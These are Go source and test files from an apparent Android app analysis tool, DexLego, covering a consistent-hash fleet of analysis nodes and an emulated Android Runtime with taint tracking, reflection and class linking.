	urls := []string{nodes[0].url, nodes[1].url, nodes[2].url}
	body := buildBody(t, "warm")
	key := keyOf(t, body)
	ownerURL := buildRing(urls).owner(key)
	var owner, other *testNode
	for _, tn := range nodes {
		if tn.url == ownerURL {
			owner = tn
		} else if other == nil {
			other = tn
		}
	}

	if resp, st := post(t, owner.url, "?wait=1", body, nil); resp.StatusCode != http.StatusOK || st.CacheHit {
		t.Fatalf("seeding the owner = %d %+v", resp.StatusCode, st)
	}
	resp, st := post(t, other.url, "?wait=1", body, nil)
	if resp.StatusCode != http.StatusOK || st.State != server.StateDone || !st.CacheHit {
		t.Fatalf("non-owner submission = %d %+v, want local cache hit after peer fetch", resp.StatusCode, st)
	}
	if got := resp.Header.Get(NodeHeader); got != other.url {
		t.Errorf("answered by %s, want the non-owner %s to serve locally", got, other.url)
	}
	if v := metricValue(t, other.url, "dexlego_fleet_peer_fetches_total", obs.L("outcome", "hit")); v != 1 {
		t.Errorf("non-owner peer fetch hits = %v, want 1", v)
	}
	if v := metricValue(t, other.url, "dexlego_fleet_forwards_total", obs.L("role", "owner")); v != 0 {
		t.Errorf("non-owner forwarded %v times, want 0 (peer fetch must suffice)", v)
	}
	if v := metricValue(t, owner.url, "dexlego_fleet_peer_serves_total"); v != 1 {
		t.Errorf("owner peer serves = %v, want 1", v)
	}
	if _, ok := other.node.Server().Store().Get(key); !ok {
		t.Error("peer-fetched artifact never landed in the non-owner's store")
	}
}

// TestFleetForwardToOwnerStampsHops: a cold key submitted to a non-owner
// is forwarded to its ring owner, and the job record names the path it
// took.
func TestFleetForwardToOwnerStampsHops(t *testing.T) {
	nodes := startFleet(t, 3, nil)
	urls := []string{nodes[0].url, nodes[1].url, nodes[2].url}
	body := buildBody(t, "cold")
	key := keyOf(t, body)
	ownerURL := buildRing(urls).owner(key)
	var other *testNode
	for _, tn := range nodes {
		if tn.url != ownerURL {
			other = tn
			break
		}
	}
	resp, st := post(t, other.url, "?wait=1", body, nil)
	if resp.StatusCode != http.StatusOK || st.State != server.StateDone {
		t.Fatalf("forwarded submission = %d %+v", resp.StatusCode, st)
	}
	if got := resp.Header.Get(NodeHeader); got != ownerURL {
		t.Errorf("answered by %s, want the owner %s", got, ownerURL)
	}
	if len(st.Hops) != 1 || st.Hops[0] != other.url {
		t.Errorf("job hops = %v, want the forwarding node %s", st.Hops, other.url)
	}
	if v := metricValue(t, other.url, "dexlego_fleet_forwards_total", obs.L("role", "owner")); v != 1 {
		t.Errorf("forwarder owner-forwards = %v, want 1", v)
	}
	if v := metricValue(t, other.url, "dexlego_fleet_peer_fetches_total", obs.L("outcome", "miss")); v != 1 {
		t.Errorf("forwarder peer-fetch misses = %v, want 1", v)
	}
	if _, ok := other.node.Server().Store().Get(key); ok {
		t.Error("forwarder stored an artifact it never fetched")
	}
}

// TestFleetHotArtifactReplicates: an owner that keeps serving one key
// pushes the artifact to the key's ring successor, so the replica is warm
// before the owner ever dies.
func TestFleetHotArtifactReplicates(t *testing.T) {
	nodes := startFleet(t, 3, func(i int, urls []string, cfg *Config) {
		cfg.HotThreshold = 2
	})
	urls := []string{nodes[0].url, nodes[1].url, nodes[2].url}
	body := buildBody(t, "hot")
	key := keyOf(t, body)
	replicas := buildRing(urls).successors(key, 2)
	var owner, replica *testNode
	for _, tn := range nodes {
		switch tn.url {
		case replicas[0]:
			owner = tn
		case replicas[1]:
			replica = tn
		}
	}
	for i := 0; i < 2; i++ {
		if resp, _ := post(t, owner.url, "?wait=1", body, nil); resp.StatusCode != http.StatusOK {
			t.Fatalf("serve %d = %d", i, resp.StatusCode)
		}
	}
	deadline := time.Now().Add(5 * time.Second)
	for {
		if art, ok := replica.node.Server().Store().Get(key); ok {
			if len(art.Revealed) == 0 {
				t.Fatal("replicated artifact is empty")
			}
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("hot artifact never reached the replica")
		}
		time.Sleep(10 * time.Millisecond)
	}
	if v := metricValue(t, owner.url, "dexlego_fleet_replications_total"); v < 1 {
		t.Errorf("owner replications = %v, want >= 1", v)
	}
}

// TestFleetNodeDeathHandsLeaseOver: killing a key's owner mid-reveal must
// not lose the accepted job — the forwarder marks the owner dead, rebuilds
// its ring, and chases the key to the new owner, where the reveal runs to
// completion.
func TestFleetNodeDeathHandsLeaseOver(t *testing.T) {
	body := buildBody(t, "handover")
	key := keyOf(t, body)
	release := make(chan struct{})
	started := make(chan struct{})
	var startedOnce sync.Once
	var liveReveals atomic.Int64
	var ownerURL string
	nodes := startFleet(t, 3, func(i int, urls []string, cfg *Config) {
		ownerURL = buildRing(urls).owner(key)
		self := cfg.Self
		if self == ownerURL {
			// The doomed owner: its reveal hangs until the test releases it,
			// modeling a node that dies mid-run.
			cfg.Server.Reveal = func(pkg *apk.APK, _ dexlego.Options) (*dexlego.Result, error) {
				startedOnce.Do(func() { close(started) })
				<-release
				return stubResult(pkg.Manifest.Package), nil
			}
			return
		}
		cfg.Server.Reveal = func(pkg *apk.APK, _ dexlego.Options) (*dexlego.Result, error) {
			liveReveals.Add(1)
			return stubResult(pkg.Manifest.Package), nil
		}
	})
	t.Cleanup(func() { close(release) }) // runs before node Close drains the pool
	var owner, forwarder *testNode
	for _, tn := range nodes {
		if tn.url == ownerURL {
			owner = tn
		} else if forwarder == nil {
			forwarder = tn
		}
	}

	type outcome struct {
		code int
		st   *server.JobStatus
	}
	done := make(chan outcome, 1)
	go func() {
		resp, st := post(t, forwarder.url, "?wait=1", body, nil)
		done <- outcome{resp.StatusCode, st}
	}()
	<-started // the owner accepted the forwarded job and is mid-reveal
	owner.kill()

	select {
	case r := <-done:
		if r.code != http.StatusOK || r.st.State != server.StateDone {
			t.Fatalf("handover submission = %d %+v, want 200 done", r.code, r.st)
		}
	case <-time.After(15 * time.Second):
		t.Fatal("submission never completed after the owner died")
	}
	if n := liveReveals.Load(); n != 1 {
		t.Errorf("surviving nodes ran %d reveals, want exactly 1 takeover", n)
	}
	if v := metricValue(t, forwarder.url, "dexlego_fleet_ring_rebuilds_total"); v < 1 {
		t.Errorf("forwarder ring rebuilds = %v, want >= 1 after the owner died", v)
	}
	owners := metricValue(t, forwarder.url, "dexlego_fleet_forwards_total", obs.L("role", "owner"))
	takeovers := metricValue(t, forwarder.url, "dexlego_fleet_forwards_total", obs.L("role", "takeover"))
	if owners+takeovers < 2 && takeovers == 0 {
		t.Errorf("forwards owner=%v takeover=%v: no handover is visible in the metrics", owners, takeovers)
	}
}

// TestFleetLoadShedEscalatesToReplica: an owner answering 429 does not
// shed the client — the forwarder escalates to the least-loaded alive
// replica, which executes the job itself.
func TestFleetLoadShedEscalatesToReplica(t *testing.T) {
	body := buildBody(t, "shed")
	key := keyOf(t, body)
	fillGate := make(chan struct{})
	var ownerURL string
	nodes := startFleet(t, 3, func(i int, urls []string, cfg *Config) {
		ownerURL = buildRing(urls).owner(key)
		cfg.Replication = 3 // every node is in the replica set
		if cfg.Self == ownerURL {
			cfg.Server.Workers = 1
			cfg.Server.QueueDepth = 1
			cfg.Server.Reveal = func(pkg *apk.APK, _ dexlego.Options) (*dexlego.Result, error) {
				<-fillGate
				return stubResult(pkg.Manifest.Package), nil
			}
		}
	})
	t.Cleanup(func() { close(fillGate) })
	var owner, forwarder, replica *testNode
	for _, tn := range nodes {
		switch {
		case tn.url == ownerURL:
			owner = tn
		case forwarder == nil:
			forwarder = tn
		default:
			replica = tn
		}
	}

	// Saturate the owner: one running job, one queued. The hops header
	// makes the owner execute these locally instead of routing them away.
	hops := map[string]string{server.FleetHopsHeader: "test-filler"}
	for i := 0; i < 2; i++ {
		resp, _ := post(t, owner.url, "", buildBody(t, fmt.Sprintf("filler-%d", i)), hops)
		if resp.StatusCode != http.StatusAccepted {
			t.Fatalf("filler %d = %d, want 202", i, resp.StatusCode)
		}
	}

	resp, st := post(t, forwarder.url, "?wait=1", body, nil)
	if resp.StatusCode != http.StatusOK || st.State != server.StateDone {
		t.Fatalf("escalated submission = %d %+v, want the replica to run it", resp.StatusCode, st)
	}
	if got := resp.Header.Get(NodeHeader); got != replica.url {
		t.Errorf("answered by %s, want the replica %s", got, replica.url)
	}
	if v := metricValue(t, forwarder.url, "dexlego_fleet_forwards_total", obs.L("role", "replica")); v != 1 {
		t.Errorf("replica escalations = %v, want 1", v)
	}
	if v := metricValue(t, forwarder.url, "dexlego_fleet_forwards_total", obs.L("role", "owner")); v != 1 {
		t.Errorf("owner forwards = %v, want 1 (the shed attempt)", v)
	}
}

// TestFleetLeaseContentionIsVisible: concurrent duplicate forwards landing
// on one node surface as lease contention, the owner-side singleflight
// signal.
func TestFleetLeaseContentionIsVisible(t *testing.T) {
	gate := make(chan struct{})
	var once sync.Once
	running := make(chan struct{})
	nodes := startFleet(t, 3, func(i int, urls []string, cfg *Config) {
		cfg.Server.Reveal = func(pkg *apk.APK, _ dexlego.Options) (*dexlego.Result, error) {
			once.Do(func() { close(running) })
			<-gate
			return stubResult(pkg.Manifest.Package), nil
		}
	})
	body := buildBody(t, "contended")
	target := nodes[0]
	hops := map[string]string{server.FleetHopsHeader: "test-peer"}

	var wg sync.WaitGroup
	for i := 0; i < 3; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			resp, st := post(t, target.url, "?wait=1", body, hops)
			if resp.StatusCode != http.StatusOK || st.State != server.StateDone {
				t.Errorf("contended submission = %d %+v", resp.StatusCode, st)
			}
		}()
	}
	<-running
	// Give the duplicates time to join the leader's lease, then release.
	time.Sleep(50 * time.Millisecond)
	close(gate)
	wg.Wait()
	if v := metricValue(t, target.url, "dexlego_fleet_lease_contention_total"); v < 1 {
		t.Errorf("lease contention = %v, want >= 1 for concurrent duplicates", v)
	}
	if v := metricValue(t, target.url, "dexlego_jobs_coalesced_total"); v < 1 {
		t.Errorf("jobs coalesced = %v, want >= 1", v)
	}
}
