package fleet

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"testing"
)

// testKey fabricates a valid-shaped artifact key from a seed.
func testKey(i int) string {
	sum := sha256.Sum256([]byte(fmt.Sprintf("key-%d", i)))
	return hex.EncodeToString(sum[:])
}

func fleetMembers(n int) []string {
	out := make([]string, n)
	for i := range out {
		out[i] = fmt.Sprintf("http://node-%d:8080", i)
	}
	return out
}

// TestRingAgreement: placement depends only on the membership set, never
// on the order peers were listed — the property that lets nodes route
// without coordinating.
func TestRingAgreement(t *testing.T) {
	members := fleetMembers(5)
	reversed := make([]string, len(members))
	for i, m := range members {
		reversed[len(members)-1-i] = m
	}
	a, b := buildRing(members), buildRing(reversed)
	for i := 0; i < 500; i++ {
		k := testKey(i)
		if a.owner(k) != b.owner(k) {
			t.Fatalf("key %s: owners disagree across member orderings: %s vs %s",
				k[:8], a.owner(k), b.owner(k))
		}
	}
}

// TestRingBalance: virtual nodes keep per-member shares within a sane band
// (no member starved, none dominating).
func TestRingBalance(t *testing.T) {
	members := fleetMembers(5)
	r := buildRing(members)
	counts := map[string]int{}
	const keys = 10000
	for i := 0; i < keys; i++ {
		counts[r.owner(testKey(i))]++
	}
	for _, m := range members {
		share := float64(counts[m]) / keys
		if share < 0.05 || share > 0.45 {
			t.Errorf("member %s owns %.1f%% of keys; balance is broken: %v",
				m, share*100, counts)
		}
	}
}

// TestRingMinimalDisruption: removing one member must not move any key
// between surviving members — only the dead member's keys relocate.
func TestRingMinimalDisruption(t *testing.T) {
	members := fleetMembers(5)
	full := buildRing(members)
	dead := members[2]
	shrunk := buildRing(append(append([]string(nil), members[:2]...), members[3:]...))
	moved, total := 0, 2000
	for i := 0; i < total; i++ {
		k := testKey(i)
		before, after := full.owner(k), shrunk.owner(k)
		if before == dead {
			moved++
			if after == dead {
				t.Fatalf("key %s still owned by removed member", k[:8])
			}
			continue
		}
		if before != after {
			t.Fatalf("key %s moved %s -> %s though neither died", k[:8], before, after)
		}
	}
	if moved == 0 {
		t.Fatal("removed member owned no keys; test is vacuous")
	}
}

// TestRingSuccessors: the replica set starts at the owner, holds distinct
// members, and clamps to the membership size.
func TestRingSuccessors(t *testing.T) {
	members := fleetMembers(3)
	r := buildRing(members)
	k := testKey(7)
	succ := r.successors(k, 2)
	if len(succ) != 2 {
		t.Fatalf("successors = %v, want 2 members", succ)
	}
	if succ[0] != r.owner(k) {
		t.Errorf("replica set %v does not start at owner %s", succ, r.owner(k))
	}
	if succ[0] == succ[1] {
		t.Errorf("replica set %v repeats a member", succ)
	}
	if got := r.successors(k, 10); len(got) != 3 {
		t.Errorf("oversized ask returned %v, want all 3 members", got)
	}
	if got := buildRing(nil).successors(k, 2); got != nil {
		t.Errorf("empty ring successors = %v, want nil", got)
	}
	if got := buildRing(nil).owner(k); got != "" {
		t.Errorf("empty ring owner = %q, want empty", got)
	}
}
