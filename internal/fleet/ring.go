// Consistent-hash placement: every artifact key owns a point on a ring of
// virtual nodes, and the node whose virtual point follows it clockwise is
// the key's owner — the one node allowed to run the reveal fleet-wide.
// Virtual nodes (ringPointsPerNode sha256-derived points per member) keep
// the key space balanced even at the 3–5 node scale the fleet targets, and
// make a membership change move only the dead node's arcs instead of
// reshuffling every key.
package fleet

import (
	"crypto/sha256"
	"encoding/binary"
	"sort"
	"strconv"
)

// ringPointsPerNode is the virtual-node fan-out. 64 points per member
// bounds per-node share skew to a few percent at fleet scale while keeping
// a rebuild (sort of nodes×64 points) trivially cheap.
const ringPointsPerNode = 64

// ringPoint is one virtual node: a position on the uint64 ring and the
// member it routes to.
type ringPoint struct {
	pos  uint64
	node string
}

// ring is an immutable placement snapshot over the members that were alive
// at build time. Lookups are lock-free; membership changes build a new
// ring rather than mutating this one.
type ring struct {
	points []ringPoint // sorted by pos
	nodes  []string    // distinct members, sorted, for reports
}

// buildRing places ringPointsPerNode virtual points per member. The point
// positions derive only from the member's ID, so two nodes with the same
// peer list always agree on placement without coordination.
func buildRing(members []string) *ring {
	r := &ring{
		points: make([]ringPoint, 0, len(members)*ringPointsPerNode),
		nodes:  append([]string(nil), members...),
	}
	sort.Strings(r.nodes)
	for _, m := range r.nodes {
		for i := 0; i < ringPointsPerNode; i++ {
			sum := sha256.Sum256([]byte(m + "#" + strconv.Itoa(i)))
			r.points = append(r.points, ringPoint{
				pos:  binary.BigEndian.Uint64(sum[:8]),
				node: m,
			})
		}
	}
	sort.Slice(r.points, func(i, j int) bool { return r.points[i].pos < r.points[j].pos })
	return r
}

// keyPoint maps an artifact key onto the ring. Keys are already sha256 hex
// (store.KeyFor), so the first 16 hex digits are a uniformly distributed
// uint64 — no second hash needed.
func keyPoint(key string) uint64 {
	var p uint64
	for i := 0; i < 16 && i < len(key); i++ {
		p <<= 4
		c := key[i]
		switch {
		case c >= '0' && c <= '9':
			p |= uint64(c - '0')
		case c >= 'a' && c <= 'f':
			p |= uint64(c-'a') + 10
		}
	}
	return p
}

// owner returns the member owning key: the first virtual point at or after
// the key's position, wrapping at the top of the ring. Empty ring returns
// "".
func (r *ring) owner(key string) string {
	if len(r.points) == 0 {
		return ""
	}
	p := keyPoint(key)
	i := sort.Search(len(r.points), func(i int) bool { return r.points[i].pos >= p })
	if i == len(r.points) {
		i = 0
	}
	return r.points[i].node
}

// successors returns up to n distinct members clockwise from key's
// position, starting with the owner — the key's replica set.
func (r *ring) successors(key string, n int) []string {
	if len(r.points) == 0 || n <= 0 {
		return nil
	}
	if n > len(r.nodes) {
		n = len(r.nodes)
	}
	p := keyPoint(key)
	start := sort.Search(len(r.points), func(i int) bool { return r.points[i].pos >= p })
	out := make([]string, 0, n)
	seen := make(map[string]bool, n)
	for i := 0; i < len(r.points) && len(out) < n; i++ {
		node := r.points[(start+i)%len(r.points)].node
		if !seen[node] {
			seen[node] = true
			out = append(out, node)
		}
	}
	return out
}
