// Package art implements the Android Runtime substrate DexLego instruments:
// a class linker, a switch-style bytecode interpreter walking 16-bit code
// unit arrays with a dex_pc, runtime objects, exceptions with try/catch
// dispatch, a native-method bridge (the JNI stand-in through which packers
// and self-modifying samples tamper with live bytecode), a reflective-call
// implementation, a model of the Android framework's source/sink APIs, and
// the instrumentation hooks the collector, coverage tracker, force-execution
// engine and dynamic taint analyses attach to.
package art

import (
	"fmt"
	"strings"

	"dexlego/internal/apimodel"
)

// Taint is a bitset of apimodel.TaintKind labels carried by a value. The
// interpreter propagates taint through data flow only (moves, arithmetic,
// field and array traffic), which is exactly why implicit flows evade the
// dynamic analyses in the paper's Table IV.
type Taint uint32

// Has reports whether all bits of k are set.
func (t Taint) Has(k apimodel.TaintKind) bool { return uint32(t)&uint32(k) == uint32(k) }

// With returns the union of t and k.
func (t Taint) With(k apimodel.TaintKind) Taint { return t | Taint(k) }

// Union returns the union of both taints.
func (t Taint) Union(o Taint) Taint { return t | o }

func (t Taint) String() string {
	if t == 0 {
		return "untainted"
	}
	var parts []string
	for _, k := range []apimodel.TaintKind{
		apimodel.TaintIMEI, apimodel.TaintSIM, apimodel.TaintLocation,
		apimodel.TaintSSID, apimodel.TaintContacts, apimodel.TaintFileContent,
		apimodel.TaintGeneric,
	} {
		if t.Has(k) {
			parts = append(parts, k.String())
		}
	}
	return strings.Join(parts, "|")
}

// Kind discriminates the two register value categories the interpreter
// tracks: 32-bit primitives (all held as int64) and object references.
type Kind uint8

// Value kinds.
const (
	KindInt Kind = iota + 1
	KindRef
)

// Value is the content of one Dalvik register.
type Value struct {
	Kind  Kind
	Int   int64
	Ref   *Object
	Taint Taint
}

// IntVal returns an integer register value.
func IntVal(v int64) Value { return Value{Kind: KindInt, Int: v} }

// BoolVal returns 1 or 0 as an integer register value.
func BoolVal(v bool) Value {
	if v {
		return IntVal(1)
	}
	return IntVal(0)
}

// RefVal returns a reference register value (o may be nil).
func RefVal(o *Object) Value { return Value{Kind: KindRef, Ref: o} }

// NullVal returns the null reference.
func NullVal() Value { return Value{Kind: KindRef} }

// WithTaint returns a copy of v with taint t added.
func (v Value) WithTaint(t Taint) Value {
	v.Taint |= t
	return v
}

// IsNull reports whether v is a null reference. Dalvik has no distinct null
// literal — `const/4 vX, 0` is the canonical way to materialize null — so an
// integer zero is also null here.
func (v Value) IsNull() bool {
	return (v.Kind == KindRef && v.Ref == nil) || (v.Kind == KindInt && v.Int == 0)
}

// EffectiveTaint returns the value taint unioned with any taint carried by
// the referenced object (strings carry taint on the object so it survives
// interning and field traffic).
func (v Value) EffectiveTaint() Taint {
	t := v.Taint
	if v.Kind == KindRef && v.Ref != nil {
		t |= v.Ref.Taint
	}
	return t
}

func (v Value) String() string {
	switch v.Kind {
	case KindInt:
		return fmt.Sprintf("int:%d", v.Int)
	case KindRef:
		if v.Ref == nil {
			return "null"
		}
		return v.Ref.String()
	default:
		return "uninit"
	}
}
