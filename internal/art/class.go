package art

import (
	"fmt"

	"dexlego/internal/bytecode"
	"dexlego/internal/dex"
)

type classState uint8

const (
	stateLoaded classState = iota + 1
	stateInitializing
	stateInitialized
)

// Class is a runtime class: framework classes are native-backed; application
// classes are linked from a DEX file.
type Class struct {
	Descriptor  string
	Super       *Class
	Interfaces  []*Class
	AccessFlags uint32

	// File and Def are set for classes linked from a DEX file.
	File *dex.File
	Def  *dex.ClassDef

	Methods      []*Method
	StaticMeta   []*Field
	InstanceMeta []*Field
	Statics      map[string]Value

	state classState
	rt    *Runtime
}

// Field is runtime field metadata.
type Field struct {
	Class       *Class
	Name        string
	Type        string
	AccessFlags uint32
	Static      bool
	Init        *dex.Value // declared initial value (static fields only)
}

// Key returns the canonical Lcls;->name:type form.
func (f *Field) Key() string { return f.Class.Descriptor + "->" + f.Name + ":" + f.Type }

// Method is a runtime method. Insns is the live, mutable instruction array:
// self-modifying native code rewrites it in place, exactly like patching the
// DEX in memory on a real device.
type Method struct {
	Class       *Class
	Name        string
	Signature   string // (params)return
	AccessFlags uint32
	Virtual     bool

	// Code state for bytecode methods.
	Insns         []uint16
	RegistersSize int
	InsSize       int
	Tries         []dex.Try

	// Native implementation for framework and JNI methods.
	Native NativeFunc

	ParamTypes []string
	ReturnType string

	key string // Key() cache; class, name and signature are fixed after link

	// Interpreter acceleration state (see predecode.go). A method belongs to
	// exactly one runtime and is only touched from its goroutine, so none of
	// this needs locking; the cross-shard sharing happens one level down in
	// the content-keyed bytecode.ProgramCache.
	codeGen uint64            // bumped on every write into the live unit array
	prog    *bytecode.Program // predecoded stream for (progPtr, progLen, progGen)
	progGen uint64            // codeGen the stream was built against
	progLen int               // len(Insns) at predecode time
	progPtr *uint16           // &Insns[0] at predecode time
	sites   []icSite          // call-site inline caches, one per predecoded instruction
}

// NativeFunc is the Go signature of a native (JNI stand-in) method.
type NativeFunc func(env *Env, recv *Object, args []Value) (Value, error)

// Key returns the canonical Lcls;->name(sig) method key.
func (m *Method) Key() string {
	if m.key == "" {
		m.key = m.Class.Descriptor + "->" + m.Name + m.Signature
	}
	return m.key
}

func (m *Method) String() string { return m.Key() }

// IsStatic reports whether the method is static.
func (m *Method) IsStatic() bool { return m.AccessFlags&dex.AccStatic != 0 }

// IsNative reports whether the method is implemented natively.
func (m *Method) IsNative() bool { return m.Native != nil }

// NumParams returns the number of declared parameters (receiver excluded).
func (m *Method) NumParams() int { return len(m.ParamTypes) }

// findDeclared returns the method declared directly on c, or nil. An empty
// signature matches any overload.
func (c *Class) findDeclared(name, signature string) *Method {
	for _, m := range c.Methods {
		if m.Name == name && (signature == "" || m.Signature == signature) {
			return m
		}
	}
	return nil
}

// FindMethod resolves a method by walking the superclass chain.
func (c *Class) FindMethod(name, signature string) *Method {
	for k := c; k != nil; k = k.Super {
		if m := k.findDeclared(name, signature); m != nil {
			return m
		}
	}
	// Default/abstract interface methods.
	for k := c; k != nil; k = k.Super {
		for _, ifc := range k.Interfaces {
			if m := ifc.FindMethod(name, signature); m != nil {
				return m
			}
		}
	}
	return nil
}

// FindField resolves a field by walking the superclass chain.
func (c *Class) FindField(name string) *Field {
	for k := c; k != nil; k = k.Super {
		for _, f := range k.StaticMeta {
			if f.Name == name {
				return f
			}
		}
		for _, f := range k.InstanceMeta {
			if f.Name == name {
				return f
			}
		}
	}
	return nil
}

// IsSubclassOf reports whether c is other or derives from it (classes and
// interfaces).
func (c *Class) IsSubclassOf(other *Class) bool {
	if other == nil {
		return false
	}
	if other.Descriptor == "Ljava/lang/Object;" {
		return true
	}
	for k := c; k != nil; k = k.Super {
		if k == other {
			return true
		}
		for _, ifc := range k.Interfaces {
			if ifc.IsSubclassOf(other) {
				return true
			}
		}
	}
	return false
}

func (c *Class) String() string { return c.Descriptor }

// AllMethods returns the declared methods (not inherited ones).
func (c *Class) AllMethods() []*Method {
	return append([]*Method(nil), c.Methods...)
}

// StaticValue reads a static field declared on this class.
func (c *Class) StaticValue(name string) (Value, error) {
	if v, ok := c.Statics[name]; ok {
		return v, nil
	}
	return Value{}, fmt.Errorf("art: class %s has no static field %s", c.Descriptor, name)
}

// Initialized reports whether static initialization has completed.
func (c *Class) Initialized() bool { return c.state == stateInitialized }
