package art_test

import (
	"errors"
	"testing"

	"dexlego/internal/art"
	"dexlego/internal/dexgen"
)

// frameworkRT loads a tiny app exposing reflective helpers.
func frameworkRT(t *testing.T) *art.Runtime {
	t.Helper()
	p := dexgen.New()
	cls := p.Class("Lfw/T;", "")
	cls.Ctor("Ljava/lang/Object;", nil)
	cls.Virtual("ping", "I", nil, func(a *dexgen.Asm) {
		a.Const(0, 99)
		a.Return(0)
	})
	// name(): forName("fw.T").getName()
	cls.Static("name", "Ljava/lang/String;", nil, func(a *dexgen.Asm) {
		a.ConstString(0, "fw.T")
		a.InvokeStatic("Ljava/lang/Class;", "forName",
			"(Ljava/lang/String;)Ljava/lang/Class;", 0)
		a.MoveResultObject(0)
		a.InvokeVirtual("Ljava/lang/Class;", "getName", "()Ljava/lang/String;", 0)
		a.MoveResultObject(0)
		a.ReturnObj(0)
	})
	// fresh(): forName("fw.T").newInstance().ping() via reflection
	cls.Static("fresh", "I", nil, func(a *dexgen.Asm) {
		a.ConstString(0, "fw.T")
		a.InvokeStatic("Ljava/lang/Class;", "forName",
			"(Ljava/lang/String;)Ljava/lang/Class;", 0)
		a.MoveResultObject(0)
		a.InvokeVirtual("Ljava/lang/Class;", "newInstance", "()Ljava/lang/Object;", 0)
		a.MoveResultObject(1)
		a.CheckCast(1, "Lfw/T;")
		a.InvokeVirtual("Lfw/T;", "ping", "()I", 1)
		a.MoveResult(2)
		a.Return(2)
	})
	// badClass(): forName of a ghost, catching ClassNotFoundException.
	cls.Static("badClass", "I", nil, func(a *dexgen.Asm) {
		a.Label("ts")
		a.ConstString(0, "no.such.Klass")
		a.InvokeStatic("Ljava/lang/Class;", "forName",
			"(Ljava/lang/String;)Ljava/lang/Class;", 0)
		a.MoveResultObject(0)
		a.Label("te")
		a.Const(1, 0)
		a.Return(1)
		a.Label("h")
		a.MoveException(2)
		a.InvokeVirtual("Ljava/lang/Throwable;", "getMessage", "()Ljava/lang/String;", 2)
		a.MoveResultObject(3)
		a.InvokeVirtual("Ljava/lang/String;", "length", "()I", 3)
		a.MoveResult(1)
		a.Return(1)
		a.Catch("ts", "te", "Ljava/lang/ClassNotFoundException;", "h")
	})
	// methName(): getDeclaredMethods()[i].getName() length sum.
	cls.Static("methCount", "I", nil, func(a *dexgen.Asm) {
		a.ConstString(0, "fw.T")
		a.InvokeStatic("Ljava/lang/Class;", "forName",
			"(Ljava/lang/String;)Ljava/lang/Class;", 0)
		a.MoveResultObject(0)
		a.InvokeVirtual("Ljava/lang/Class;", "getDeclaredMethods",
			"()[Ljava/lang/reflect/Method;", 0)
		a.MoveResultObject(1)
		a.ArrayLength(2, 1)
		a.Return(2)
	})
	f, err := p.Finish()
	if err != nil {
		t.Fatal(err)
	}
	rt := art.NewRuntime(art.DefaultPhone())
	if _, err := rt.LoadDex(f); err != nil {
		t.Fatal(err)
	}
	return rt
}

func TestClassGetName(t *testing.T) {
	rt := frameworkRT(t)
	res, err := rt.Call("Lfw/T;", "name", "()Ljava/lang/String;", nil, nil)
	if err != nil || res.Ref == nil || res.Ref.Str != "fw.T" {
		t.Errorf("name() = %v, %v", res, err)
	}
}

func TestClassNewInstance(t *testing.T) {
	rt := frameworkRT(t)
	res, err := rt.Call("Lfw/T;", "fresh", "()I", nil, nil)
	if err != nil || res.Int != 99 {
		t.Errorf("fresh() = %v, %v; want 99", res, err)
	}
}

func TestForNameFailureIsCatchable(t *testing.T) {
	rt := frameworkRT(t)
	res, err := rt.Call("Lfw/T;", "badClass", "()I", nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	if res.Int != int64(len("no.such.Klass")) {
		t.Errorf("badClass() = %d, want message length %d", res.Int, len("no.such.Klass"))
	}
}

func TestGetDeclaredMethodsCount(t *testing.T) {
	rt := frameworkRT(t)
	res, err := rt.Call("Lfw/T;", "methCount", "()I", nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	// <init>, ping, name, fresh, badClass, methCount = 6 declared methods.
	if res.Int != 6 {
		t.Errorf("methCount() = %d, want 6", res.Int)
	}
}

func TestStringFrameworkEdgeCases(t *testing.T) {
	rt := frameworkRT(t)
	s := rt.NewString("hello")
	// charAt out of bounds throws.
	_, err := rt.Call("Ljava/lang/String;", "charAt", "(I)C", s,
		[]art.Value{art.IntVal(99)})
	var thrown *art.ThrownError
	if !errors.As(err, &thrown) {
		t.Errorf("charAt(99): got %v", err)
	}
	// substring bounds check.
	_, err = rt.Call("Ljava/lang/String;", "substring", "(II)Ljava/lang/String;", s,
		[]art.Value{art.IntVal(3), art.IntVal(1)})
	if !errors.As(err, &thrown) {
		t.Errorf("substring(3,1): got %v", err)
	}
	res, err := rt.Call("Ljava/lang/String;", "substring", "(II)Ljava/lang/String;", s,
		[]art.Value{art.IntVal(1), art.IntVal(4)})
	if err != nil || res.Ref.Str != "ell" {
		t.Errorf("substring(1,4) = %v, %v", res, err)
	}
	// Integer.parseInt failure throws NumberFormatException.
	bad := rt.NewString("not-a-number")
	_, err = rt.Call("Ljava/lang/Integer;", "parseInt", "(Ljava/lang/String;)I", nil,
		[]art.Value{art.RefVal(bad)})
	if !errors.As(err, &thrown) ||
		thrown.Obj.Class.Descriptor != "Ljava/lang/NumberFormatException;" {
		t.Errorf("parseInt: got %v", err)
	}
	ok := rt.NewString(" 42 ")
	res, err = rt.Call("Ljava/lang/Integer;", "parseInt", "(Ljava/lang/String;)I", nil,
		[]art.Value{art.RefVal(ok)})
	if err != nil || res.Int != 42 {
		t.Errorf("parseInt(' 42 ') = %v, %v", res, err)
	}
}
