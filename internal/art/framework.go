package art

import (
	"fmt"
	"strconv"
	"strings"
	"sync"

	"dexlego/internal/apimodel"
	"dexlego/internal/dex"
)

// fwClass is a small helper for declaring native-backed framework classes.
type fwClass struct {
	rt *Runtime
	c  *Class
}

// sigCache memoizes ParseSignature results across runtimes. Signatures
// repeat heavily — every framework model rebuild re-declares the same
// methods, and app DEX files share most of their signatures — so the parsed
// form is computed once per distinct string. Cached ParamTypes slices are
// shared and must never be mutated (readers only use them via indexed reads).
var sigCache sync.Map // signature string -> *sigInfo

type sigInfo struct {
	params []string
	ret    string
}

func parseSigCached(sig string) ([]string, string, error) {
	if v, ok := sigCache.Load(sig); ok {
		si := v.(*sigInfo)
		return si.params, si.ret, nil
	}
	params, ret, err := dex.ParseSignature(sig)
	if err != nil {
		return nil, "", err
	}
	sigCache.Store(sig, &sigInfo{params: params, ret: ret})
	return params, ret, nil
}

func (rt *Runtime) fw(desc, super string, ifaces ...string) *fwClass {
	c := &Class{
		Descriptor: desc,
		Statics:    make(map[string]Value),
		state:      stateInitialized,
		rt:         rt,
	}
	if super != "" {
		c.Super = rt.classes[super]
	}
	for _, i := range ifaces {
		c.Interfaces = append(c.Interfaces, rt.classes[i])
	}
	rt.classes[desc] = c
	return &fwClass{rt: rt, c: c}
}

